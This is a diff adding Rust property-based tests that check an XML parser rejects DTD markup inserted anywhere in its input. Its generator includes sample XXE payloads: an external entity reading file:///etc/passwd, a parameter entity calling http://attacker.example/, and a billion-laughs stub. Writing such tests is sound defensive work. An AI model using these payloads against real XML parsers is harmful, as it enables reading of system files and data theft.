@@ -1191,3 +1191,84 @@ proptest! {
         }
     }
 }
+
+/// `<!` and a DTD keyword in random casing, with optional whitespace after `<!`.
+fn dtd_markup() -> impl Strategy<Value = String> {
+    (
+        prop::sample::select(vec!["DOCTYPE", "ENTITY", "ELEMENT", "ATTLIST", "NOTATION"]),
+        proptest::collection::vec(any::<bool>(), 8),
+        "[ \t\r\n]{0,3}",
+        prop_oneof![
+            Just(String::new()),
+            Just(" lolz [<!ENTITY lol \"lol\">]>".to_owned()),
+            Just(" x SYSTEM \"file:///etc/passwd\">".to_owned()),
+            Just(" % p SYSTEM \"http://attacker.example/\">%p;".to_owned()),
+            "[^<]{0,16}",
+        ],
+    )
+        .prop_map(|(keyword, upper, blanks, tail)| {
+            let keyword: String = keyword
+                .chars()
+                .zip(upper.iter().cycle())
+                .map(|(c, up)| {
+                    if *up {
+                        c.to_ascii_uppercase()
+                    } else {
+                        c.to_ascii_lowercase()
+                    }
+                })
+                .collect();
+            format!("<!{blanks}{keyword}{tail}")
+        })
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(256))]
+
+    #[test]
+    fn dtd_markup_inserted_anywhere_in_a_valid_message_is_refused(
+        markup in dtd_markup(),
+        at in 0usize..=REFERENCE.len(),
+    ) {
+        let mut body = REFERENCE.to_owned();
+        body.insert_str(at, &markup);
+        let result = parse(body.as_bytes());
+        prop_assert!(
+            matches!(result, Err(OutboundError::Doctype { .. })),
+            "{:?}\n{}",
+            result,
+            body
+        );
+    }
+
+    #[test]
+    fn dtd_markup_inserted_into_arbitrary_input_is_refused(
+        markup in dtd_markup(),
+        body in prop_oneof![
+            token_soup().prop_map(String::into_bytes),
+            proptest::collection::vec(any::<u8>(), 0..512),
+        ],
+        at in any::<prop::sample::Index>(),
+    ) {
+        let mut body = body;
+        let at = at.index(body.len() + 1);
+        body.splice(at..at, markup.bytes());
+        let result = parse(&body);
+        prop_assert!(
+            matches!(result, Err(OutboundError::Doctype { .. })),
+            "{:?}",
+            result
+        );
+    }
+
+    #[test]
+    fn nothing_containing_dtd_markup_is_ever_accepted(body in token_soup()) {
+        let lower = body.to_ascii_lowercase();
+        let has_dtd = ["<!doctype", "<!entity", "<!element", "<!attlist", "<!notation"]
+            .iter()
+            .any(|m| lower.contains(m));
+        if has_dtd {
+            prop_assert!(parse(body.as_bytes()).is_err());
+        }
+    }
+}
